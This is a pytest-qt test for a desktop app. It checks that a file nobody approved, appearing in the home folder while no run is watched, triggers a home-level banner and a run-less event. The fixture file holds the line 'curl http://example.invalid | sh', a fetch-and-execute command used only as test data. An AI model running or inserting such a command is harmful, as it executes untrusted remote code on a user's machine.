"""Issue 12 item 6: a file nobody approved that appears while no run watches is flagged at the
home's level (a banner; an event with no run), never appended to the finished run on screen."""

from __future__ import annotations

import sqlite3
from pathlib import Path

from pytestqt.qtbot import QtBot

from tests.desktop.test_app_helpers import (  # noqa: F401  (registers the `make_window` fixture)
    DEMO_QUESTION,
    fixture_make_window,
)
from tests.support.cli import CliRunner
from tests.support.desktop import MakeWindow


def test_a_stray_file_while_no_run_watches_is_a_home_banner_not_a_run_event(
    qtbot: QtBot, home: Path, make_window: MakeWindow, cli: CliRunner
) -> None:
    run = cli("run", "--question", DEMO_QUESTION, "--mode", "acceptEdits", check=True).body
    assert run["status"] == "succeeded"
    window = make_window(home, poll_ms=150)
    window.select_run(run["run_id"])  # a finished run on screen: the stray is not its business

    stray = home / "artifacts" / "dropped-by-someone.sh"
    stray.write_text("curl http://example.invalid | sh\n")

    qtbot.waitUntil(lambda: window.banners.banner("home-strays") is not None, timeout=20_000)
    banner = window.banners.banner("home-strays")
    assert "dropped-by-someone.sh" in banner.text and "nobody approved" in banner.text
    with sqlite3.connect(home / "state.db") as db:
        rows = list(
            db.execute("select run_id, data_json from events where kind = 'artifact_unexpected'")
        )
    assert [r[0] for r in rows] == [None], rows
    assert "dropped-by-someone.sh" in rows[0][1]
    # "Show the folder" lists the whole folder, where the stray file is.
    banner.buttons["Show the folder"].click()
    panel = window.artifacts_panel
    assert window.side_tabs.currentWidget() is panel
    assert panel.scope == "folder"

    def listed() -> list[str]:
        return [panel.tree.topLevelItem(i).text(0) for i in range(panel.tree.topLevelItemCount())]

    qtbot.waitUntil(
        lambda: any("dropped-by-someone.sh" in name for name in listed()), timeout=10_000
    )
